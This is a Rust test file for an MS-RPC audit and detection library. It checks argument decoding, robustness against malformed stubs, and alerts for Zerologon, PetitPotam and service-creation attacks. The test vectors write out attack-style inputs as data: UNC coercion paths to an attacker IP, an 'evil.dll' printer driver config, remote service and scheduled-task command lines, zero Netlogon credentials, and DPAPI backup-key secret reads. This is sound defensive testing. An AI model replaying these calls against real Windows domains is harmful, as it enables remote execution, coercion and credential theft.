    assert!(d.tracked() < 64 * 16, "{}", d.tracked());
}

// ---------------------------------------------------------------------------------------------
// Arguments decoded from request stubs.
// ---------------------------------------------------------------------------------------------

fn uuid(s: &str) -> Uuid {
    s.parse().unwrap()
}

fn extract(iface: &str, opnum: u16, stub: &[u8], drep: DataRep) -> Vec<(String, String)> {
    msrpc_audit::args::extract(
        &uuid(iface),
        opnum,
        stub,
        drep,
        msrpc_ndr::TransferSyntax::Ndr20,
    )
    .into_iter()
    .map(|a| (a.name, a.value))
    .collect()
}

fn pairs(list: &[(&str, &str)]) -> Vec<(String, String)> {
    list.iter().map(|(a, b)| (s(a), s(b))).collect()
}

/// An interface, an opnum, a request stub and the arguments it must give.
type Vector = (&'static str, u16, Vec<u8>, Vec<(String, String)>);

/// Every operation the extractor reads, its stub and the arguments it must find.
fn argument_vectors(drep: DataRep) -> Vec<Vector> {
    let zero_pw = [0u8; 516];
    let mut set_pw = [0u8; 516];
    set_pw[7] = 0x41;
    vec![
        (
            RPRN,
            65,
            stubs::rprn_notify(drep, "\\\\10.0.0.66"),
            pairs(&[("fdwFlags", "0x00000100"), ("pszLocalMachine", "\\\\10.0.0.66")]),
        ),
        (
            RPRN,
            69,
            stubs::rprn_open_ex(drep, "\\\\DC01", "\\\\WS01", "alice"),
            pairs(&[
                ("pPrinterName", "\\\\DC01"),
                ("AccessRequired", "0x00020000"),
                ("pMachineName", "\\\\WS01"),
                ("pUserName", "alice"),
            ]),
        ),
        (
            RPRN,
            89,
            stubs::rprn_add_driver_ex(drep, "\\\\10.0.0.66\\s\\evil.dll"),
            pairs(&[
                ("pName", "\\\\DC01"),
                ("pDriverPath", "C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL"),
                ("pDataFile", "C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL"),
                ("pConfigFile", "\\\\10.0.0.66\\s\\evil.dll"),
                ("dwFileCopyFlags", "0x00008014"),
            ]),
        ),
        (
            EFSR_LSA,
            0,
            stubs::efsr_file(drep, "\\\\10.0.0.66\\test\\Settings.ini"),
            pairs(&[("FileName", "\\\\10.0.0.66\\test\\Settings.ini")]),
        ),
        (
            EFSR,
            4,
            stubs::efsr_file(drep, "\\\\attacker@80/x\\y"),
            pairs(&[("FileName", "\\\\attacker@80/x\\y")]),
        ),
        (
            DFSNM,
            12,
            stubs::dfs_add_std_root(drep, "10.0.0.66"),
            pairs(&[("ServerName", "10.0.0.66"), ("RootShare", "share")]),
        ),
        (
            FSRVP,
            8,
            stubs::fsrvp_is_path_supported(drep, "\\\\10.0.0.66\\share\\"),
            pairs(&[("ShareName", "\\\\10.0.0.66\\share\\")]),
        ),
        (
            SCMR,
            12,
            stubs::scm_create_w(drep, "BTOBTO", "%COMSPEC% /Q /c echo dir > \\\\127.0.0.1\\C$\\__out"),
            pairs(&[
                ("lpServiceName", "BTOBTO"),
                ("lpDisplayName", "BTOBTO"),
                ("dwServiceType", "0x00000010"),
                ("dwStartType", "3"),
                ("lpBinaryPathName", "%COMSPEC% /Q /c echo dir > \\\\127.0.0.1\\C$\\__out"),
            ]),
        ),
        (
            SCMR,
            24,
            stubs::scm_create_a(drep, "svc", "C:\\x.exe"),
            pairs(&[
                ("lpServiceName", "svc"),
                ("dwServiceType", "0x00000010"),
                ("dwStartType", "3"),
                ("lpBinaryPathName", "C:\\x.exe"),
            ]),
        ),
        (SCMR, 19, stubs::scm_start(drep), pairs(&[("argc", "0")])),
        (
            TSCH,
            1,
            stubs::tsch_register(drep, "\\xyzTask", "cmd.exe", "/C whoami &gt; %windir%\\Temp\\x.tmp 2&gt;&amp;1"),
            pairs(&[
                ("path", "\\xyzTask"),
                ("command", "cmd.exe"),
                ("arguments", "/C whoami > %windir%\\Temp\\x.tmp 2>&1"),
            ]),
        ),
        (TSCH, 12, stubs::tsch_run(drep, "\\xyzTask"), pairs(&[("path", "\\xyzTask")])),
        (
            ATSVC,
            0,
            stubs::netr_job_add(drep, "cmd /c calc"),
            pairs(&[("Command", "cmd /c calc")]),
        ),
        (
            NRPC,
            4,
            stubs::nrpc_req_challenge(drep, "WS01", [0; 8]),
            pairs(&[("ComputerName", "WS01"), ("ClientChallenge", "0000000000000000")]),
        ),
        (
            NRPC,
            26,
            stubs::nrpc_authenticate3(drep, "DC01", [0; 8]),
            pairs(&[
                ("AccountName", "DC01$"),
                ("SecureChannelType", "2"),
                ("ComputerName", "DC01"),
                ("ClientCredential", "0000000000000000"),
                ("NegotiateFlags", "0x212fffff"),
            ]),
        ),
        (
            NRPC,
            30,
            stubs::nrpc_password_set2(drep, "DC01", &zero_pw),
            pairs(&[
                ("AccountName", "DC01$"),
                ("SecureChannelType", "2"),
                ("ComputerName", "DC01"),
                ("ClearNewPassword", "zero"),
            ]),
        ),
        (
            NRPC,
            30,
            stubs::nrpc_password_set2(drep, "WS01", &set_pw),
            pairs(&[
                ("AccountName", "WS01$"),
                ("SecureChannelType", "2"),
                ("ComputerName", "WS01"),
                ("ClearNewPassword", "set"),
            ]),
        ),
        (DRS, 3, stubs::drs_get_nc_changes(drep), pairs(&[("dwInVersion", "8")])),
        (
            BKRP,
            0,
            stubs::bkrp_backup_key(drep, "47270c64-2fc7-499b-ac5b-0e37cdce899a"),
            pairs(&[("pguidActionAgent", "47270c64-2fc7-499b-ac5b-0e37cdce899a")]),
        ),
        (
            LSA,
            28,
            stubs::lsa_open_secret(drep, "G$BCKUPKEY_PREFERRED"),
            pairs(&[("SecretName", "G$BCKUPKEY_PREFERRED")]),
        ),
        (
            LSA,
            43,
            stubs::lsa_retrieve_private_data(drep, "G$BCKUPKEY_P"),
            pairs(&[("KeyName", "G$BCKUPKEY_P")]),
        ),
        (
            EVEN,
            9,
            stubs::even_open_backup(drep, "\\??\\UNC\\10.0.0.66\\s\\x.evt"),
            pairs(&[("BackupFileName", "\\??\\UNC\\10.0.0.66\\s\\x.evt")]),
        ),
        (
            WINREG,
            15,
            stubs::reg_open_key(drep, "SYSTEM\\CurrentControlSet\\Control\\Lsa\\JD"),
            pairs(&[("lpSubKey", "SYSTEM\\CurrentControlSet\\Control\\Lsa\\JD")]),
        ),
        (
            WINREG,
            20,
            stubs::reg_save_key(drep, "..\\Temp\\abcdefgh.tmp"),
            pairs(&[("lpFile", "..\\Temp\\abcdefgh.tmp")]),
        ),
    ]
}

#[test]
fn arguments_decode_in_both_byte_orders() {
    for drep in [LE, BE] {
        for (iface, opnum, stub, want) in argument_vectors(drep) {
            assert!(msrpc_audit::args::reads_op(&uuid(iface), opnum));
            assert!(REQUEST_STUB_INTERFACES.contains(&uuid(iface)), "{iface}");
            assert_eq!(
                extract(iface, opnum, &stub, drep),
                want,
                "{iface} opnum {opnum} {drep:?}"
            );
        }
    }
    // Operations not read, other interfaces: nothing.
    assert!(extract(SCMR, 0, &stubs::handle_only(LE), LE).is_empty());
    assert!(extract(SRVS, 12, &[0; 64], LE).is_empty());
}

#[test]
fn hostile_and_truncated_stubs_decode_partly_or_not_at_all() {
    for (iface, opnum, stub, want) in argument_vectors(LE) {
        // Every prefix: no panic, and what is found is a prefix of what the whole gives.
        for n in 0..stub.len() {
            let got = extract(iface, opnum, &stub[..n], LE);
            assert!(got.len() <= want.len(), "{iface} {opnum} at {n}");
            for (g, w) in got.iter().zip(&want) {
                assert_eq!(g.0, w.0, "{iface} {opnum} at {n}");
            }
        }
        // Garbage of every length: no panic.
        for n in 0..64 {
            let junk: Vec<u8> = (0..n).map(|i| (i * 37 + 11) as u8).collect();
            let _ = extract(iface, opnum, &junk, LE);
        }
    }
    // A string that claims four billion characters allocates nothing and gives nothing.
    let mut huge = vec![0u8; 0];
    huge.extend_from_slice(&u32::MAX.to_le_bytes());
    huge.extend_from_slice(&0u32.to_le_bytes());
    huge.extend_from_slice(&u32::MAX.to_le_bytes());
    huge.extend_from_slice(&[0x41; 32]);
    assert!(extract(EFSR, 0, &huge, LE).is_empty());
    // Long values are clipped.
    let long = "\\\\h\\".to_string() + &"x".repeat(5000);
    let got = extract(EFSR, 0, &stubs::efsr_file(LE, &long), LE);
    assert_eq!(got[0].1.chars().count(), msrpc_audit::args::MAX_VALUE + 3);
    assert!(got[0].1.ends_with("..."));
}

/// The daemon's path: the runtime keeps the request stubs of `REQUEST_STUB_INTERFACES`, `Live`
/// decodes the arguments into the `call` event, and the library fires on them.
#[test]
fn live_calls_carry_arguments_and_fire_rules() {
    let mut live = Live::new(3);
    let mut det = Detectors::new(DetectorConfig::default());
    live.feed(
        1.0,
        Input::Opened {
            conn_id: 1,
            peer: Some("10.0.0.66:50000".parse().unwrap()),
            local: Some("10.0.0.10:49670".parse().unwrap()),
        },
    );
    let mut events = Vec::new();
    let d = std::time::Duration::from_millis(1);
    let calls: Vec<(&str, u16, Vec<u8>)> = vec![
        (EFSR, 0, stubs::efsr_file(BE, "\\\\10.0.0.66\\s\\f")),
        (NRPC, 26, stubs::nrpc_authenticate3(BE, "DC01", [0; 8])),
        (
            SCMR,
            12,
            stubs::scm_create_w(BE, "x", "%COMSPEC% /Q /c dir"),
        ),
        (SCMR, 19, stubs::scm_start(BE)),
    ];
    for (i, (iface, opnum, stub)) in calls.into_iter().enumerate() {
        let input = Input::call_done(
            1,
            i as u32 + 1,
            SyntaxId::new(uuid(iface), 1, 0),
            opnum,
            BE,
            msrpc_ndr::TransferSyntax::Ndr20,
            &stub,
            stub.len(),
            Ok(&[0, 0, 0, 0]),
            d,
        );
        for e in live.feed(2.0 + i as f64, input) {
            events.extend(det.observe(&e));
            events.push(e);
        }
    }
    let call_args: Vec<&Vec<CallArg>> = events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::Call { args, .. } => Some(args),
            _ => None,
        })
        .collect();
    assert_eq!(call_args[0][0].value, "\\\\10.0.0.66\\s\\f");
    assert_eq!(call_args[1][3].value, "0000000000000000");
    let rules: Vec<&str> = events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::Alert { detector, .. } => Some(detector.as_str()),
            _ => None,
        })
        .collect();
    for want in [
        "zerologon_zero_credential",
        "scm_shell_service",
        "scm_service_create_start",
    ] {
        assert!(rules.contains(&want), "{want}: {rules:?}");
    }
    // The UNC path names the caller itself (10.0.0.66 -> 10.0.0.10 asked about 10.0.0.66):
    // a coercion toward the attacker's own host is still another host than the target.
    assert!(rules.contains(&"petitpotam_efsr_efsrpc_pipe"), "{rules:?}");
    // The JSON line carries the arguments.
    let mut sink = msrpc_audit::json::JsonSink::new(Vec::new());
    for e in &events {
        sink.write(e).unwrap();
    }
    let text = String::from_utf8(sink.into_inner()).unwrap();
    assert!(
        text.contains(r#""args":[{"name":"FileName","value":"\\\\10.0.0.66\\s\\f"}]"#),
        "{text}"
    );
}
